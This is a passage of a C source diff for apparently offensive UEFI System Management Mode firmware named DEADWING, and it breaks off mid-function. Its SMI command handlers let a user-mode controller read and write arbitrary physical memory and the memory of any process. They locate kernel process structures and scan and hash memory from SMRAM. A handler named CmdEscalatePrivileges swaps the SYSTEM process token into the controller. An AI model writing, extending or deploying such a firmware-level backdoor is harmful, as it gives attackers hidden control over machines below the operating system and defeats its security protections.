  * \return EFI_NOT_FOUND - Cannot find dir base
+ * \return EFI_ABORTED - Unable to map system EPROCESS into SMRAM
  */
 EFI_STATUS
 EFIAPI
-CmdVirtToPhys(
-	IN  UINT64   TargetPid,
-	IN  VOID    *AddressToTranslate,
-	OUT VOID   **TranslatedAddress
+CmdGetTargetDirBase(
+	IN  UINT64  TargetPid,
+	OUT UINT64 *TargetDirBase
 ) {
-	SerialPrint("[ SMM ] Translating virtual address to physical\r\n");
-
-	if(!TargetPid || !AddressToTranslate) {
-		SerialPrint("[ SMM ] Invalid parameters has been passed to the VTOP function\r\n");
-		return EFI_INVALID_PARAMETER;
-	}
-
-	// map system EPROCESS
-	UINT64 MappedEprocess = MemProcessOutsideSmramPhysMemory(gLiveSession.SysProcess.PhysPsInitialSysProcess, gRemapPage);
-	if(MappedEprocess != 0) {
-		// get dirbase of the target process
-		UINT64 TargetDir = NtGetDirBaseByPid(TargetPid, MappedEprocess, gLiveSession.SysProcess.DirBase, NULL);
-		if(TargetDir == 0) {
-			SerialPrint("[ SMM ] Unable to get target process dirbase\r\n");
-			return EFI_NOT_FOUND;
-		}
-
-		// just translate it
-		UINT64 Phys = MemTranslateVirtualToPhys(AddressToTranslate, TargetDir);
-		if(Phys == 0) {
-			SerialPrint("[ SMM ] Unable to translate provided virtual address\r\n");
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	UINT64 Tsc = AsmReadTsc();
+
+	// walk the list of processes only if PID is not cached
+	*TargetDirBase = NtLookupCachedDirBase(TargetPid);
+	if(*TargetDirBase == 0) {
+		// map physical address of system EPROCESS into the SMRAM region
+		UINT64 MappedEprocess = MemProcessOutsideSmramPhysMemory(gLiveSession.SysProcess.PhysPsInitialSysProcess);
+		if(MappedEprocess == 0) {
+			LOG_ERROR("[ SMM ] Unable to map system EPROCESS into SMRAM region\r\n");
 			return EFI_ABORTED;
 		}
 
-		*TranslatedAddress = Phys;
+		// get target process dir base
+		VOID *TargetEprocess = NULL;
+		*TargetDirBase = NtGetDirBaseByPid(TargetPid, MappedEprocess, gLiveSession.SysProcess.DirBase, &TargetEprocess);
 
-		MemRestoreSmramMappings();
-	} else {
-		SerialPrint("[ SMM ] Unable to map system EPROCESS into SMRAM region\r\n");
-		return EFI_ABORTED;
+		NtCacheDirBase(TargetPid, *TargetDirBase, (UINT64)TargetEprocess);
+	}
+
+	if(Cpu != NULL)
+		Cpu->Timing.DirBase += AsmReadTsc() - Tsc;
+
+	if(*TargetDirBase == 0) {
+		LOG_ERROR("[ SMM ] Unable to get target process dir base\r\n");
+		return EFI_NOT_FOUND;
 	}
 
 	return EFI_SUCCESS;
 }
 
 /**
- * \brief Changes controller process token
+ * \brief Checks if session info has been cached
  * 
- * \return EFI_SUCCESS - Operation was performed succesfully
- * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
- * \return EFI_ABORTED - Unable to map system or controller EPROCESS into SMRAM
+ * \return TRUE - Session info is available
+ * \return FALSE - Controller should cache session first
  */
-EFI_STATUS
+BOOLEAN
 EFIAPI
-CmdEscalatePrivileges(
+CmdIsSessionCached(
 	VOID
 ) {
-	SerialPrint("[ SMM ] Leveraging controller process\r\n");
+	if(gLiveSession.UmController.UmControllerDirBase == 0 || gLiveSession.SysProcess.PhysPsInitialSysProcess == NULL) {
+		LOG_ERROR("[ SMM ] Session info is not cached\r\n");
+		return FALSE;
+	}
 
-	return NtExchangeProcessToken(gLiveSession.SysProcess.PhysPsInitialSysProcess, gLiveSession.UmController.PhysUmControllerEprocess);
+	return TRUE;
 }
 
 /**
- * \brief Main command handler
+ * \brief Selects destination of the read: consumer buffer or inline data region of the communication buffer
  * 
- * \param SmiCommCtx Communication buffer with data for SMI handler
+ * \param ReceivedInfo Consumer buffer or NULL, if data should be returned inline
+ * \param LengthToRead Length of data
+ * \param InlineData   Inline data region
+ * \param InlineSize   Size of inline data region
+ * \param Dest         Receives destination address
+ * \param DestDir      Receives dir base of the destination
  * 
- * \return EFI_SUCCESS - Command has been dispatched succesfully
- * \return Other - An error occured while command dispatching
+ * \return EFI_SUCCESS - Destination has been selected
+ * \return EFI_BUFFER_TOO_SMALL - Data doesn't fit the inline data region
  */
 EFI_STATUS
 EFIAPI
-CmdMainHandler(
-	IN PDEADWING_COMMUNICATION SmiCommCtx
+CmdGetReadDestination(
+	IN  VOID   *ReceivedInfo,
+	IN  UINT64  LengthToRead,
+	IN  VOID   *InlineData,
+	IN  UINTN   InlineSize,
+	OUT UINT64 *Dest,
+	OUT UINT64 *DestDir
 ) {
-	EFI_STATUS Status;
-	VOID *VtopMem = NULL;
+	if(ReceivedInfo != NULL) {
+		*Dest = (UINT64)ReceivedInfo;
+		*DestDir = gLiveSession.UmController.UmControllerDirBase;
+		return EFI_SUCCESS;
+	}
 
-	// dispatch request
-	switch(SmiCommCtx->Command) {
-		case CMD_DEADWING_PING_SMI:
-			SerialPrint("[ SMM ] SMI handler is alive now\r\n");
-			Status = EFI_SUCCESS;
-		break;
-		case CMD_DEADWING_READ_PHYS:
-			Status = CmdPhysRead(SmiCommCtx->Read.PhysReadAddress, SmiCommCtx->Read.ReadResult, SmiCommCtx->Read.ReadLength);
-			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Unable to read from the physical memory\r\n");
-		break;
-		case CMD_DEADWING_WRITE_PHYS:
-			Status = CmdPhysWrite(SmiCommCtx->Write.PhysWriteAddress, SmiCommCtx->Write.DataToWrite, SmiCommCtx->Write.WriteLength);
-			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Unable to write to the physical memory\r\n");
-		break;
-		case CMD_DEADWING_READ_VIRTUAL:
-			Status = CmdVirtualRead(SmiCommCtx->Read.TargetProcessId, SmiCommCtx->Read.VaReadAddress, SmiCommCtx->Read.ReadResult, SmiCommCtx->Read.ReadLength);
-			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Cannot read from provided virtual address\r\n");
-		break;
-		case CMD_DEADWING_WRITE_VIRTUAL:
-			Status = CmdVirtualWrite(SmiCommCtx->Write.TargetProcessId, SmiCommCtx->Write.VaWriteAddress, SmiCommCtx->Write.DataToWrite, SmiCommCtx->Write.WriteLength);
+	if(InlineData == NULL || LengthToRead > InlineSize) {
+		LOG_ERROR("[ SMM ] Data doesn't fit inline data region\r\n");
+		return EFI_BUFFER_TOO_SMALL;
+	}
+
+	// inline data region lies outside SMRAM and is accessible as is
+	*Dest = (UINT64)InlineData;
+	*DestDir = CMD_DIRECT_DIR_BASE;
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Reads data from specified physical address
+ * 
+ * \param AddressToRead Provided physical address
+ * \param ReceivedInfo  Received data (virtual buffer) or NULL, if data should be returned inline
+ * \param LengthToRead  Length to read from specified address
+ * \param InlineData    Inline data region of the communication buffer
+ * \param InlineSize    Size of inline data region
+ * \param Cursor        Resume cursor
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_BUFFER_TOO_SMALL - Data doesn't fit inline data region
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return Other - Unable to allocate per-CPU contexts
+ */
+EFI_STATUS
+EFIAPI
+CmdPhysRead(
+	IN     VOID   *AddressToRead,
+	IN     VOID   *ReceivedInfo,
+	IN     UINT64  LengthToRead,
+	IN     VOID   *InlineData,
+	IN     UINTN   InlineSize,
+	IN OUT UINT64 *Cursor
+) {
+	LOG_DEBUG("[ SMM ] Reading from physical memory\r\n");
+
+	// validate input
+	if((!AddressToRead || !LengthToRead) || LengthToRead > DEADWING_MAX_TRANSFER_LENGTH) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to specific command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	UINT64 Dest;
+	UINT64 DestDir;
+	EFI_STATUS Status = CmdGetReadDestination(ReceivedInfo, LengthToRead, InlineData, InlineSize, &Dest, &DestDir);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	// copy data from physical address to the consumer buffer
+	return CmdTransfer(Dest, DestDir, (UINT64)AddressToRead, 0, LengthToRead, Cursor);
+}
+
+/**
+ * \brief Writes data to provided physical address
+ * 
+ * \param AddressToWrite Provided physical address which should
+ *                       be modified
+ * \param DataToWrite    Provided data which should be written to
+ *                       specified physical address (virtual buffer)
+ * \param LengthToWrite  Size of data
+ * \param Cursor         Resume cursor
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return Other - Unable to allocate per-CPU contexts
+ */
+EFI_STATUS
+EFIAPI
+CmdPhysWrite(
+	IN     VOID   *AddressToWrite,
+	IN     VOID   *DataToWrite,
+	IN     UINT64  LengthToWrite,
+	IN OUT UINT64 *Cursor
+) {
+	LOG_DEBUG("[ SMM ] Writing to the physical memory\r\n");
+
+	// validate input
+	if((!AddressToWrite || !DataToWrite || !LengthToWrite) || LengthToWrite > DEADWING_MAX_TRANSFER_LENGTH) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to specific command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	// copy data from donor buffer to the physical address
+	return CmdTransfer((UINT64)AddressToWrite, 0, (UINT64)DataToWrite, gLiveSession.UmController.UmControllerDirBase, LengthToWrite, Cursor);
+}
+
+/**
+ * \brief Reads data from provided virtual address.
+ * 
+ * Function checks if paging enabled. If system can work with paging, we'll
+ * translate provided virtual address to physical and read data from it.
+ * 
+ * \param TargetPid     PID of the target process
+ * \param AddressToRead Virtual address which should be translated before
+ *                      reading from it
+ * \param ReceivedInfo  Received data or NULL, if data should be returned inline
+ * \param LengthToRead  Length to read from provided address
+ * \param InlineData    Inline data region of the communication buffer
+ * \param InlineSize    Size of inline data region
+ * \param Cursor        Resume cursor
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_BUFFER_TOO_SMALL - Data doesn't fit inline data region
+ * \return EFI_ABORTED - Unable to translate and map virtual address to physical
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ * \return Other - Unable to allocate per-CPU contexts
+ */
+EFI_STATUS
+EFIAPI
+CmdVirtualRead(
+	IN     UINT64   TargetPid,
+	IN     VOID    *AddressToRead,
+	IN     VOID    *ReceivedInfo,
+	IN     UINT64   LengthToRead,
+	IN     VOID    *InlineData,
+	IN     UINTN    InlineSize,
+	IN OUT UINT64  *Cursor
+) {
+	LOG_DEBUG("[ SMM ] Reading from virtual memory\r\n");
+
+	// validate input
+	if((!AddressToRead || !LengthToRead) || LengthToRead > DEADWING_MAX_TRANSFER_LENGTH || !TargetPid) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to va read command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	UINT64 Dest;
+	UINT64 DestDir;
+	EFI_STATUS Status = CmdGetReadDestination(ReceivedInfo, LengthToRead, InlineData, InlineSize, &Dest, &DestDir);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	// get target process dir base
+	UINT64 TargetDirBase;
+	Status = CmdGetTargetDirBase(TargetPid, &TargetDirBase);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	// copy data from target address to the consumer buffer
+	return CmdTransfer(Dest, DestDir, (UINT64)AddressToRead, TargetDirBase, LengthToRead, Cursor);
+}
+
+/**
+ * \brief Writes to provided virtual address.
+ * 
+ * Function checks if paging enabled. If system can work with paging, we'll translate
+ * provided virtual address to physical and write data to it
+ * 
+ * \param TargetPid      PID of the target process
+ * \param AddressToWrite Virtual address which should be translated and modified by 
+ *                       provided data
+ * \param DataToWrite    Data which should be written at specified address
+ * \param LengthToWrite  Size of data
+ * \param Cursor         Resume cursor
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to translate and map virtual address to physical
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ * \return Other - Unable to allocate per-CPU contexts
+ */
+EFI_STATUS
+EFIAPI
+CmdVirtualWrite(
+	IN     UINT64   TargetPid,
+	IN     VOID    *AddressToWrite,
+	IN     VOID    *DataToWrite,
+	IN     UINT64   LengthToWrite,
+	IN OUT UINT64  *Cursor
+) {
+	LOG_DEBUG("[ SMM ] Writing to the virtual memory\r\n");
+
+	// validate input
+	if((!AddressToWrite || !DataToWrite || !LengthToWrite) || LengthToWrite > DEADWING_MAX_TRANSFER_LENGTH || !TargetPid) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to specific command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	// get target process dir base
+	UINT64 TargetDirBase;
+	EFI_STATUS Status = CmdGetTargetDirBase(TargetPid, &TargetDirBase);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	// copy data from donor buffer to the target address
+	return CmdTransfer((UINT64)AddressToWrite, TargetDirBase, (UINT64)DataToWrite, gLiveSession.UmController.UmControllerDirBase, LengthToWrite, Cursor);
+}
+
+/**
+ * \brief Caches current session - saves system & controller app EPROCESSes and Dir bases.
+ * 
+ * \param VirtualEprocess Virtual address of system's EPROCESS structure
+ * \param DirBase         Directory table base of the kernel
+ * 
+ * \return EFI_SUCCESS - Data has been cached succesfully
+ * \return EFI_INVALID_PARAMETER - EPROCESS address and/or Directory table base is NULL
+ * \return EFI_ABORTED - Unable to translate EPROCESS address, find kernel base address or
+ *                       cache export table
+ */
+EFI_STATUS
+EFIAPI
+CmdCacheSessionInfo(
+	IN UINT64  ControllerPid,
+	IN VOID   *VirtualEprocess,
+	IN UINT64  DirBase
+) {
+	LOG_DEBUG("[ SMM ] Trying to cache session info\r\n");
+
+	if(!ControllerPid || !VirtualEprocess || !DirBase) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to caching function\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	// translate address of PsInitialSystemProcess
+	VOID *UmEprocess = NULL;
+	UINT64 UmDirBase = 0;
+	VOID *UnmappedSysEprocess = NULL;
+	UINT64 PhysEprocess = MemMapVirtualAddress(VirtualEprocess, DirBase, &UnmappedSysEprocess);
+	if(PhysEprocess != 0) {
+		// get controller process dir base & EPROCESS
+		UmDirBase = NtGetDirBaseByPid(ControllerPid, (VOID *)PhysEprocess, DirBase, &UmEprocess);
+		if(UmDirBase == 0 || UmEprocess == 0) {
+			LOG_ERROR("[ SMM ] Cannot get dir base of the controller UM application\r\n");
+			return EFI_ABORTED;
+		}
+	} else {
+		LOG_ERROR("[ SMM ] Unable to get physical address of PsInitialSystemProcess\r\n");
+		return EFI_ABORTED; 
+	}
+
+	// cache all info
+	gLiveSession.SysProcess.PhysPsInitialSysProcess = (VOID *)UnmappedSysEprocess;
+	gLiveSession.SysProcess.DirBase = DirBase;
+	gLiveSession.UmController.PhysUmControllerEprocess = (VOID *)UmEprocess;
+	gLiveSession.UmController.UmControllerDirBase = UmDirBase;
+
+	LOG_INFO("[ SMM ] Session info has been cached\r\n");
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Translates provided virtual address
+ * 
+ * \param TargetPid          PID of the target process
+ * \param AddressToTranslate Address which should be translated
+ * \param TranslatedAddress  Output translate address
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_ABORTED - Unable to translate and map virtual address to physical
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdVirtToPhys(
+	IN  UINT64   TargetPid,
+	IN  VOID    *AddressToTranslate,
+	OUT VOID   **TranslatedAddress
+) {
+	LOG_DEBUG("[ SMM ] Translating virtual address to physical\r\n");
+
+	if(!TargetPid || !AddressToTranslate) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to the VTOP function\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	// map system EPROCESS
+	UINT64 MappedEprocess = MemProcessOutsideSmramPhysMemory(gLiveSession.SysProcess.PhysPsInitialSysProcess);
+	if(MappedEprocess != 0) {
+		// get dirbase of the target process
+		UINT64 TargetDir = NtGetDirBaseByPid(TargetPid, MappedEprocess, gLiveSession.SysProcess.DirBase, NULL);
+		if(TargetDir == 0) {
+			LOG_ERROR("[ SMM ] Unable to get target process dirbase\r\n");
+			return EFI_NOT_FOUND;
+		}
+
+		// just translate it
+		UINT64 Phys = MemTranslateVirtualToPhys(AddressToTranslate, TargetDir);
+		if(Phys == 0) {
+			LOG_ERROR("[ SMM ] Unable to translate provided virtual address\r\n");
+			return EFI_ABORTED;
+		}
+
+		*TranslatedAddress = Phys;
+
+		MemRestoreSmramMappings();
+	} else {
+		LOG_ERROR("[ SMM ] Unable to map system EPROCESS into SMRAM region\r\n");
+		return EFI_ABORTED;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Changes controller process token
+ * 
+ * \return EFI_SUCCESS - Operation was performed succesfully
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_ABORTED - Unable to map system or controller EPROCESS into SMRAM
+ */
+EFI_STATUS
+EFIAPI
+CmdEscalatePrivileges(
+	VOID
+) {
+	LOG_INFO("[ SMM ] Leveraging controller process\r\n");
+
+	return NtExchangeProcessToken(gLiveSession.SysProcess.PhysPsInitialSysProcess, gLiveSession.UmController.PhysUmControllerEprocess);
+}
+
+/**
+ * \brief Hashes [Start, End) pages of the range and writes their digests to the controller buffer, runs on any CPU.
+ * 
+ * Digests are collected in SMRAM, where the range digest is calculated from, and flushed once the slice is done
+ * 
+ * \param Cpu     Remap window of the current CPU
+ * \param Context Hash work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Pages have been hashed
+ * \return EFI_ABORTED - Unable to translate or map page or digests buffer
+ */
+EFI_STATUS
+EFIAPI
+CmdHashWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_HASH_WORK *Work = (DEADWING_HASH_WORK *)Context;
+
+	UINT64 FirstPage = Work->Address & ~(UINT64)EFI_PAGE_MASK;
+	UINT8 *Digests = gHashBatchDigests + (Start - Work->Batch) * Work->DigestSize;
+
+	for(UINT64 Page = Start; Page < End; Page++) {
+		// part of the range which lies on this page
+		UINT64 ChunkStart = MAX(FirstPage + Page * EFI_PAGE_SIZE, Work->Address);
+		UINT64 ChunkEnd = MIN(FirstPage + (Page + 1) * EFI_PAGE_SIZE, Work->Address + Work->Length);
+
+		UINT64 Mapped = CmdMapAddress(ChunkStart, Work->DirBase, Cpu);
+		if(Mapped == 0)
+			return EFI_ABORTED;
+
+		HashDigest(Work->Algorithm, (VOID *)Mapped, (UINTN)(ChunkEnd - ChunkStart), Digests + (Page - Start) * Work->DigestSize);
+
+		CmdRestoreMapping(Cpu);
+	}
+
+	return CmdWriteToAddress(Cpu, Work->PageDigests + Start * Work->DigestSize, gLiveSession.UmController.UmControllerDirBase, Digests, (End - Start) * Work->DigestSize);
+}
+
+/**
+ * \brief Hashes list of physical and virtual ranges.
+ * 
+ * Request (DEADWING_HASH_REQUEST) lives in the controller memory. Every range is hashed page
+ * by page, digests of pages are written to the controller buffer one after another. Pages are
+ * split across all available CPUs. Digest of the range is a hash over digests of its pages: they
+ * are kept in SMRAM for every batch and streamed into the context which lives in SMRAM as well,
+ * so nothing is read back from the controller. Digest is written back to the request. Command
+ * is resumable: Cursor keeps index of the next page, State[0] - index of the current range,
+ * State[1] - index of its first page digest
+ * 
+ * \param Request           Controller address of the request
+ * \param PageDigests       Controller address of the page digests buffer
+ * \param PageDigestsLength Length of the page digests buffer
+ * \param Cursor            Resume cursor
+ * \param State             Resume state
+ * 
+ * \return EFI_SUCCESS - All ranges have been hashed
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments or ranges are invalid
+ * \return EFI_UNSUPPORTED - Unknown hash algorithm
+ * \return EFI_BUFFER_TOO_SMALL - Page digests don't fit the buffer
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdHashRanges(
+	IN     VOID   *Request,
+	IN     VOID   *PageDigests,
+	IN     UINT64  PageDigestsLength,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State
+) {
+	if(!Request || !PageDigests || !PageDigestsLength) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to hash command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	// read request header
+	UINT32 Header[2];
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, Header, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(Header));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read hash request\r\n");
+		return Status;
+	}
+
+	DEADWING_HASH_WORK Work;
+	Work.Algorithm = Header[0];
+	Work.DigestSize = HashGetDigestSize(Work.Algorithm);
+	if(Work.DigestSize == 0) {
+		LOG_ERROR("[ SMM ] Unsupported hash algorithm\r\n");
+		return EFI_UNSUPPORTED;
+	}
+
+	UINT32 RangeCount = Header[1];
+	if(RangeCount == 0 || RangeCount > DEADWING_HASH_MAX_RANGES) {
+		LOG_ERROR("[ SMM ] Invalid count of hash ranges\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	BOOLEAN Progressed = FALSE;
+	UINT64 BatchPages = MpGetBatchLength() / EFI_PAGE_SIZE;
+	UINT64 RangeAddress = (UINT64)Request + OFFSET_OF(DEADWING_HASH_REQUEST, Ranges);
+
+	while(State[0] < RangeCount) {
+		DEADWING_HASH_RANGE Range;
+		UINT64 Entry = RangeAddress + State[0] * sizeof(DEADWING_HASH_RANGE);
+		Status = CmdReadFromAddress(Cpu, &Range, Entry, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_HASH_RANGE));
+		if(EFI_ERROR(Status))
+			return Status;
+
+		if(!Range.Address || !Range.Length || Range.Length > DEADWING_MAX_TRANSFER_LENGTH || Range.Address + Range.Length < Range.Address) {
+			LOG_ERROR("[ SMM ] Invalid hash range\r\n");
+			return EFI_INVALID_PARAMETER;
+		}
+
+		// PID 0 means physical range
+		Work.DirBase = 0;
+		if(Range.ProcessId != 0) {
+			Status = CmdGetTargetDirBase(Range.ProcessId, &Work.DirBase);
+			if(EFI_ERROR(Status))
+				return Status;
+		}
+
+		Work.Address = Range.Address;
+		Work.Length = Range.Length;
+		Work.PageDigests = (UINT64)PageDigests + State[1] * Work.DigestSize;
+
+		UINT64 Pages = ((Range.Address + Range.Length - 1) >> EFI_PAGE_SHIFT) - (Range.Address >> EFI_PAGE_SHIFT) + 1;
+		if((State[1] + Pages) * Work.DigestSize > PageDigestsLength) {
+			LOG_ERROR("[ SMM ] Page digests buffer is too small\r\n");
+			return EFI_BUFFER_TOO_SMALL;
+		}
+
+		if(*Cursor > Pages) {
+			LOG_ERROR("[ SMM ] Invalid resume cursor\r\n");
+			return EFI_INVALID_PARAMETER;
+		}
+
+		// range digest can't be continued from another command, range is hashed again then
+		if(*Cursor == 0 || gHashStream.Request != Request || gHashStream.Range != State[0] || gHashStream.Streamed != *Cursor || gHashStream.Ctx.Algorithm != Work.Algorithm) {
+			HashInit(&gHashStream.Ctx, Work.Algorithm);
+			gHashStream.Request = Request;
+			gHashStream.Range = State[0];
+			gHashStream.Streamed = 0;
+			*Cursor = 0;
+		}
+
+		// hash pages in batches, at least one batch per SMI
+		while(*Cursor < Pages) {
+			if(Progressed && YieldBudgetExhausted())
+				return EFI_NOT_READY;
+
+			UINT64 Batch = MIN(Pages - *Cursor, BatchPages);
+
+			Work.Batch = *Cursor;
+			Status = MpDispatch(CmdHashWorker, &Work, *Cursor, Batch, 1);
+			if(EFI_ERROR(Status))
+				return Status;
+
+			// digests of the batch are in page order
+			HashUpdate(&gHashStream.Ctx, gHashBatchDigests, (UINTN)(Batch * Work.DigestSize));
+			gHashStream.Streamed = *Cursor + Batch;
+
+			*Cursor += Batch;
+			Progressed = TRUE;
+		}
+
+		// write digest of the range back to the request
+		ZeroMem(Range.Digest, sizeof(Range.Digest));
+		HashFinal(&gHashStream.Ctx, Range.Digest);
+		gHashStream.Request = NULL;
+
+		Status = CmdWriteToAddress(Cpu, Entry + OFFSET_OF(DEADWING_HASH_RANGE, Digest), gLiveSession.UmController.UmControllerDirBase, Range.Digest, sizeof(Range.Digest));
+		if(EFI_ERROR(Status))
+			return Status;
+
+		// move to the next range
+		State[0]++;
+		State[1] += Pages;
+		*Cursor = 0;
+		Progressed = TRUE;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Flushes matches collected in the bounce page to the controller buffer.
+ * 
+ * Slots in the controller buffer are reserved atomically, so CPUs don't overwrite
+ * matches of each other. Matches which don't fit the buffer are counted but dropped
+ * 
+ * \param Cpu        Remap window and bounce page of the current CPU
+ * \param Work       Scan work
+ * \param MatchCount Count of collected matches, reset to zero
+ * 
+ * \return EFI_SUCCESS - Matches have been flushed
+ * \return EFI_ABORTED - Unable to translate or map matches buffer
+ */
+EFI_STATUS
+EFIAPI
+CmdScanFlush(
+	IN     PDEADWING_MP_CPU    Cpu,
+	IN     PDEADWING_SCAN_WORK Work,
+	IN OUT UINTN              *MatchCount
+) {
+	if(*MatchCount == 0)
+		return EFI_SUCCESS;
+
+	UINT64 Index;
+	do {
+		Index = Work->Found;
+	} while(InterlockedCompareExchange64(&Work->Found, Index, Index + *MatchCount) != Index);
+
+	UINT64 Count = (Index < Work->MaxMatches) ? MIN(*MatchCount, Work->MaxMatches - Index) : 0;
+
+	*MatchCount = 0;
+
+	if(Count == 0)
+		return EFI_SUCCESS;
+
+	return CmdWriteToAddress(Cpu, Work->Matches + Index * sizeof(DEADWING_SCAN_MATCH), gLiveSession.UmController.UmControllerDirBase, (VOID *)Cpu->Bounce, Count * sizeof(DEADWING_SCAN_MATCH));
+}
+
+/**
+ * \brief Scans [Start, End) part of the range in place, runs on any CPU.
+ * 
+ * Every page is scanned directly through the remap window. Matches crossing the page
+ * boundary are found in a small stitch buffer: tail of the previous page followed by
+ * the head of the next one. Matches starting before End may end in the next slice, so
+ * the page after End is mapped only to finish the stitch. Pages which can't be mapped
+ * (not present, etc.) are skipped
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Scan work
+ * \param Start   Offset of the first position
+ * \param End     Offset after the last position
+ * 
+ * \return EFI_SUCCESS - Part has been scanned
+ * \return EFI_ABORTED - Unable to translate or map matches buffer
+ */
+EFI_STATUS
+EFIAPI
+CmdScanWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_SCAN_WORK *Work = (DEADWING_SCAN_WORK *)Context;
+	DEADWING_SCAN_MATCH *Collected = (DEADWING_SCAN_MATCH *)Cpu->Bounce;
+	UINTN Capacity = EFI_PAGE_SIZE / sizeof(DEADWING_SCAN_MATCH);
+	UINTN MaxTail = Work->Matcher->MaxLength - 1;
+
+	UINT8 Stitch[2 * DEADWING_SCAN_MAX_PATTERN_LENGTH];
+	UINTN TailLength = 0;
+	UINT64 TailOffset = 0;
+	UINTN Count = 0;
+
+	EFI_STATUS Status;
+	for(UINT64 Offset = Start; Offset < Work->Length;) {
+		// past the end only the stitch is left
+		if(Offset >= End && TailLength == 0)
+			break;
+
+		// stop early if the buffer is already full
+		if(Work->Found > Work->MaxMatches)
+			break;
+
+		UINT64 Address = Work->Address + Offset;
+		UINTN DataLength = (UINTN)MIN(Work->Length - Offset, EFI_PAGE_SIZE - (Address & EFI_PAGE_MASK));
+
+		UINT8 *Data = (UINT8 *)CmdMapAddress(Address, Work->DirBase, Cpu);
+		if(Data == NULL) {
+			// page is not available, nothing can cross it
+			TailLength = 0;
+			Offset += DataLength;
+			continue;
+		}
+
+		if(TailLength != 0) {
+			UINTN HeadLength = MIN(DataLength, MaxTail);
+			CopyMem(Stitch + TailLength, Data, HeadLength);
+
+			CmdRestoreMapping(Cpu);
+
+			// only matches which start before End and cross the boundary
+			UINTN Limit = (End > TailOffset) ? (UINTN)MIN(TailLength, End - TailOffset) : 0;
+			for(UINTN Pos = 0; (Pos = ScanBlock(Work->Matcher, Stitch, TailLength + HeadLength, Pos, Limit, TailLength, Work->Address + TailOffset, Collected, &Count, Capacity)) < Limit;) {
+				Status = CmdScanFlush(Cpu, Work, &Count);
+				if(EFI_ERROR(Status))
+					return Status;
+			}
+
+			TailLength = 0;
+
+			if(Offset >= End)
+				break;
